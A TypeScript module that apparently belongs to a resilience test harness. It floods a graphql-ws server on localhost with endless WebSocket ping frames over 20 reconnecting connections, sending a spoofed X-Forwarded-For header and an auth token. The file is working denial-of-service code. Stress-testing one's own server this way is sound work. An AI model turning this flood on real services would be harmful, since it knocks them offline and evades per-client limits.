/** Pings of graphql-ws as fast as the network takes them, on as many connections as may be open before they say who they are. */
import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';
import { type Attack, type AttackTally, pause, type Target } from '../attack.js';

const CONNECTIONS = 20;
const TOGETHER = 3000;
const MASKED = 0x80;
const TEXT = 0x81;

/** A frame of a client with a mask of zeros, up to 64 KiB. */
function frame(text: string): Buffer {
  const payload = Buffer.from(text);
  const length = payload.length < 126 ? [payload.length] : [126, payload.length >> 8, payload.length & 0xff];
  return Buffer.concat([Buffer.from([TEXT, MASKED | (length[0] ?? 0), ...length.slice(1), 0, 0, 0, 0]), payload]);
}

const PINGS = Buffer.concat(Array.from({ length: TOGETHER }, () => frame('{"type":"ping"}')));

const attack: Attack = {
  name: 'sends pings without end on 20 WebSockets, and connects again when it is disconnected',
  async run(target, tally, signal) {
    const lane = async () => {
      while (!signal.aborted) {
        await flood(target, tally, signal);
        await pause(5, signal);
      }
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, lane));
  },
};
export default attack;

/** Resolves when the connection has ended. */
function flood({ port, attacker }: Target, tally: AttackTally, signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1');
    const stop = () => socket.destroy();
    signal.addEventListener('abort', stop);
    socket.on('error', () => {}); // told by its end
    socket.on('close', () => {
      signal.removeEventListener('abort', stop);
      resolve();
    });
    const head = [
      'GET /graphql HTTP/1.1',
      'Host: localhost',
      `X-Forwarded-For: ${attacker.address}`,
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Version: 13',
      'Sec-WebSocket-Protocol: graphql-transport-ws',
      `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
    ];
    socket.write(`${head.join('\r\n')}\r\n\r\n`);
    socket.once('data', (answer) => {
      tally.add(`upgrade ${String(answer).slice(9, 12)}`);
      socket.write(frame(JSON.stringify({ type: 'connection_init', payload: { token: attacker.token } })));
      const go = () => {
        while (!socket.destroyed && socket.write(PINGS));
      };
      socket.on('data', () => {}); // pongs
      socket.on('drain', go);
      go();
    });
  });
}
